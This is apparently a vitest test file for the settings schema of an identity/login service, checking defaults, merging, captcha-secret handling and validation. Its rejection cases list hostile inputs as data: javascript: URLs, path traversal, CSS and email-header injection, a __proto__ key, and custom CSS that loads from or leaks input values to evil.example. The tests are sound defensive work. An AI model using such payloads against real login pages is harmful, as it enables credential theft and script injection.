import { describe, expect, test } from 'vitest'
import { z } from 'zod'
import { checkSettings } from './checks.ts'
import { describeChanges } from './changes.ts'
import { describeLook } from './look.ts'
import { changedSecret, compactSettings, mergeSettings, resolveSettings } from './merge.ts'
import { defaultSettings, RealmSettings, type SettingsChange, SettingsInput } from './schema.ts'

const fresh = resolveSettings({ realmId: 'r', displayName: null, enabled: true, settings: {}, hasSecret: false })

function faultyMembers(change: unknown): PropertyKey[] {
  return SettingsInput.safeParse(change).error?.issues.map((issue) => issue.path[0] ?? '') ?? []
}

function faultsOf(change: SettingsChange, current = fresh): string[] {
  try {
    checkSettings(mergeSettings(current, SettingsInput.parse(change)), change, 'login.example.com')
    return []
  } catch (error) {
    return (error as { fields: { field: string }[] }).fields.map((fault) => fault.field)
  }
}

describe('the schema of the settings', () => {
  test('a fresh realm has the defaults of the contract and no look of its own', () => {
    expect(fresh).toEqual({ realmId: 'r', ...defaultSettings })
    expect(fresh).toMatchObject({
      displayName: null,
      enabled: true,
      logoUrl: null,
      primaryColor: null,
      backgroundColor: null,
      welcomeText: null,
      customCss: null,
      registrationAllowed: false,
      resetPasswordAllowed: true,
      defaultLocale: 'en',
      accessTokenLifetimeSeconds: 300,
      refreshTokenLifetimeSeconds: 36_000,
      refreshTokenGraceSeconds: 10,
      offlineSessionIdleSeconds: 2_592_000,
      ssoSessionIdleSeconds: 1800,
      eventRetentionDays: null,
      passwordPolicy: { minLength: 12, breachCheck: 'REJECT' },
      bruteForce: { maxFailures: 10, windowSeconds: 600, lockSeconds: 60, maxLockSeconds: 3600, perIpMaxPerMinute: 60 },
      mfaPolicy: { mode: 'OPTIONAL', trustedDeviceDays: 0 },
      samlDefaults: { signAssertion: true, nameIdFormat: 'persistent', assertionLifetimeSeconds: 300 },
      captcha: { provider: null, siteKey: null, secret: null, secretSet: false },
      acrAliases: {},
    })
    expect(RealmSettings.parse(fresh)).toEqual(fresh)
  })

  test('every member is described, in what is read and in what is written', () => {
    for (const schema of [RealmSettings, SettingsInput]) {
      expect(undescribed(z.toJSONSchema(schema, { io: 'input' }))).toEqual([])
    }
  })

  test('what was read can be written back and changes nothing', () => {
    expect(mergeSettings(fresh, SettingsInput.parse(fresh))).toEqual(fresh)
  })

  test('refuses unknown members at both levels', () => {
    const { error } = SettingsInput.safeParse({ colour: '#fff', bruteForce: { maxFailure: 3 } })
    expect(error?.issues.map((issue) => [issue.code, issue.path])).toEqual([
      ['unrecognized_keys', ['bruteForce']],
      ['unrecognized_keys', []],
    ])
  })

  test.each<[string, unknown]>([
    ['primaryColor', 'red'],
    ['primaryColor', '#12345'],
    ['backgroundColor', '#fff;}body{x:y'],
    ['logoUrl', 'http://cdn.example.com/logo.png'],
    ['logoUrl', 'https://user:pw@cdn.example.com/logo.png'],
    ['logoUrl', '/assets/../admin'],
    ['logoUrl', '/assets/%2e%2e/admin'],
    ['logoUrl', '//evil.example/assets/logo.png'],
    ['logoUrl', 'javascript:alert(1)'],
    ['welcomeText', 'a\u0000b'],
    ['displayName', 'a\r\nBcc: b'],
    ['termsUrl', 'javascript:alert(1)'],
    ['privacyUrl', 'http://example.com'],
    ['supportEmail', 'nobody'],
    ['defaultLocale', 'English'],
    ['supportedLocales', []],
    ['accessTokenLifetimeSeconds', 86_401],
    ['ssoSessionIdleSeconds', 0],
    ['ssoSessionMaxSeconds', 1.5],
    ['eventRetentionDays', 0],
    ['rememberMe', 'true'],
    ['passwordPolicy', { minLength: 7 }],
    ['bruteForce', { maxFailures: 0 }],
    ['mfaPolicy', { allowed: ['password'] }],
    ['acrAliases', { 'two words': 'urn:gatehouse:acr:2' }],
    ['acrAliases', { gold: 'urn:gatehouse:acr:4' }],
    ['securityHeaders', { frameAncestors: ['https://a.example; script-src *'] }],
    ['webauthnPolicy', { algorithms: [] }],
    ['captcha', { provider: 'other' }],
  ])('refuses %s = %j and names it', (name, value) => {
    expect(faultyMembers({ [name]: value })).toEqual([name])
  })

  test('refuses texts that are too long and names them all', () => {
    const long = { displayName: 'x'.repeat(256), welcomeText: 'x'.repeat(501), customCss: 'x'.repeat(65_537) }
    expect(faultyMembers(long)).toEqual(['displayName', 'welcomeText', 'customCss'])
  })

  test('no name of an alias reaches the prototype of anything', () => {
    const change = SettingsInput.safeParse(JSON.parse('{"acrAliases": {"__proto__": "urn:gatehouse:acr:2"}}'))
    expect(change.success ? mergeSettings(fresh, change.data) : fresh).toEqual(fresh)
  })

  test.each<[string, unknown]>([
    ['logoUrl', 'https://cdn.example.com/logo.png?v=1'],
    ['logoUrl', '/assets/logo.svg'],
    ['primaryColor', '#ABC'],
    ['backgroundColor', '#0a5c8f'],
    ['supportedLocales', ['en', 'pt-BR', 'zh-Hant-TW', 'es-419']],
  ])('accepts %s = %j', (name, value) => {
    expect(SettingsInput.safeParse({ [name]: value }).success).toBe(true)
  })
})

describe('a change of settings', () => {
  const changed = mergeSettings(fresh, {
    displayName: 'Example',
    primaryColor: '#123456',
    passwordPolicy: { minLength: 16, minDigits: 1 },
    acrAliases: { gold: 'urn:gatehouse:acr:2', silver: 'urn:gatehouse:acr:1' },
  })

  test('leaves absent members as they are and sets null members back, one level deep', () => {
    const next = mergeSettings(changed, {
      primaryColor: null,
      passwordPolicy: { minLength: null, notEmail: false },
      acrAliases: { silver: null },
    })
    expect(next).toMatchObject({
      displayName: 'Example',
      primaryColor: null,
      acrAliases: { gold: 'urn:gatehouse:acr:2' },
    })
    expect(next.passwordPolicy).toMatchObject({ minLength: 12, minDigits: 1, notEmail: false })
    expect(Object.keys(next.acrAliases)).toEqual(['gold'])
  })

  test('null clears a whole object', () => {
    const next = mergeSettings(changed, { passwordPolicy: null, acrAliases: null, enabled: null })
    expect(next.passwordPolicy).toEqual(defaultSettings.passwordPolicy)
    expect(next.acrAliases).toEqual({})
    expect(next.enabled).toBe(true)
  })

  test('only what differs from the defaults is stored, and it reads back the same', () => {
    const stored = compactSettings(changed)
    expect(stored).toEqual({
      primaryColor: '#123456',
      passwordPolicy: { minLength: 16, minDigits: 1 },
      acrAliases: { gold: 'urn:gatehouse:acr:2', silver: 'urn:gatehouse:acr:1' },
    })
    const row = { realmId: 'r', displayName: 'Example', enabled: true, settings: stored, hasSecret: false }
    expect(resolveSettings(row)).toEqual(changed)
    expect(compactSettings(fresh)).toEqual({})
  })

  test('a member that a release no longer knows is left out', () => {
    const row = { realmId: 'r', displayName: null, enabled: true, settings: { gone: 1 }, hasSecret: false }
    expect(resolveSettings(row)).toEqual(fresh)
  })

  test('S51 the captcha secret is never part of the settings', () => {
    const change = { captcha: { provider: 'turnstile' as const, siteKey: 'k', secret: 'canary' } }
    const next = mergeSettings(fresh, change)
    expect(next.captcha).toEqual({ provider: 'turnstile', siteKey: 'k', secret: null, secretSet: true })
    expect(JSON.stringify(compactSettings(next))).not.toMatch(/canary|secret/)
    expect(changedSecret(change)).toBe('canary')
  })

  test('an absent or null secret is kept, an empty one cleared', () => {
    const current = { ...fresh, captcha: { ...fresh.captcha, secretSet: true } }
    expect(mergeSettings(current, { captcha: { secret: null, secretSet: false } }).captcha.secretSet).toBe(true)
    expect(mergeSettings(current, {}).captcha.secretSet).toBe(true)
    expect(mergeSettings(current, { captcha: { secret: '' } }).captcha.secretSet).toBe(false)
    expect(mergeSettings(current, { captcha: null }).captcha.secretSet).toBe(false)
    expect([changedSecret({}), changedSecret({ captcha: { secret: '' } }), changedSecret({ captcha: null })]).toEqual([
      undefined,
      null,
      null,
    ])
  })

  test('the realm id is ignored and an emptied text means none', () => {
    const next = mergeSettings({ ...fresh, welcomeText: 'Hello' }, { realmId: 'other', welcomeText: '', customCss: '' })
    expect(next).toEqual(fresh)
  })

  test('the shared defaults cannot be changed by accident', () => {
    expect(() => defaultSettings.supportedLocales.push('xx')).toThrow(TypeError)
  })
})

describe('rules between members', () => {
  test.each<[string[], SettingsChange]>([
    [['ssoSessionIdleSeconds'], { ssoSessionIdleSeconds: 36_001 }],
    [['ssoSessionMaxSeconds', 'ssoSessionMaxSeconds'], { ssoSessionMaxSeconds: 600 }],
    [['refreshTokenIdleSeconds'], { refreshTokenIdleSeconds: 40_000 }],
    [['bruteForce.maxLockSeconds'], { bruteForce: { maxLockSeconds: 30 } }],
    [['defaultLocale'], { defaultLocale: 'nl' }],
    [['supportedLocales'], { supportedLocales: ['nl'], defaultLocale: 'en' }],
    [['mfaPolicy.allowed'], { mfaPolicy: { mode: 'REQUIRED', allowed: ['recovery-codes'] } }],
    [['samlDefaults.signAssertion'], { samlDefaults: { signAssertion: false, signResponse: false } }],
    [['webauthnPolicy.rpId'], { webauthnPolicy: { rpId: 'other.example.com' } }],
    [['webauthnPolicy.rpId'], { webauthnPolicy: { rpId: 'in.example.com' } }],
    [['captcha.siteKey', 'captcha.secret'], { captcha: { provider: 'hcaptcha' } }],
    [['customCss'], { customCss: '@import "https://evil.example/x.css";' }],
    [['customCss'], { customCss: 'input[value^="a"] { background: url(https://evil.example/a) }' }],
  ])('names %j', (fields, change) => {
    expect(faultsOf(change)).toEqual(fields)
  })

  test('accepts what fits together', () => {
    expect(
      faultsOf({
        defaultLocale: 'nl',
        supportedLocales: ['nl', 'en', 'nl'],
        webauthnPolicy: { rpId: 'example.com' },
        captcha: { provider: 'hcaptcha', siteKey: 'k', secret: 's' },
        customCss: '.gh-main { color: #333 }',
      }),
    ).toEqual([])
  })

  test('reports all faults at once', () => {
    expect(faultsOf({ defaultLocale: 'nl', ssoSessionIdleSeconds: 40_000 })).toEqual([
      'ssoSessionIdleSeconds',
      'defaultLocale',
    ])
  })
})

test('the audit trail tells what changed, shortly and without the secret', () => {
  const before = mergeSettings(fresh, { acrAliases: { gold: 'urn:gatehouse:acr:2' }, primaryColor: '#fff' })
  const after = mergeSettings(before, {
    primaryColor: null,
    customCss: ' '.repeat(60_000),
    passwordPolicy: { minLength: 20 },
    acrAliases: { gold: null },
    captcha: { secret: 'canary' },
  })
  expect(describeChanges(before, after, true)).toEqual({
    primaryColor: null,
    customCss: '60000 characters',
    passwordPolicy: { minLength: 20 },
    acrAliases: { gold: null },
    captcha: { secretSet: true, secretChanged: true },
  })
  expect(describeChanges(before, before, false)).toEqual({})
})

test('the version of the theme follows the look and nothing else', () => {
  expect(describeLook(fresh).themeVersion).toBeNull()
  const blue = describeLook({ ...fresh, primaryColor: '#00f' })
  expect(blue.displayName).toBe('r')
  expect(describeLook({ ...fresh, primaryColor: '#00f', rememberMe: false }).themeVersion).toBe(blue.themeVersion)
  expect(describeLook({ ...fresh, primaryColor: '#00e' }).themeVersion).not.toBe(blue.themeVersion)
})

/** The properties without a description, at any depth; a reference is described where it points to. */
function undescribed(node: unknown, path = ''): string[] {
  if (typeof node !== 'object' || node === null) return []
  const { properties = {} } = node as { properties?: Record<string, { description?: string; $ref?: string }> }
  const missing = Object.entries(properties).filter(([, member]) => !member.description && !member.$ref)
  return [
    ...missing.map(([name]) => `${path}/${name}`),
    ...Object.entries(node).flatMap(([name, inner]) => undescribed(inner, `${path}/${name}`)),
  ]
}
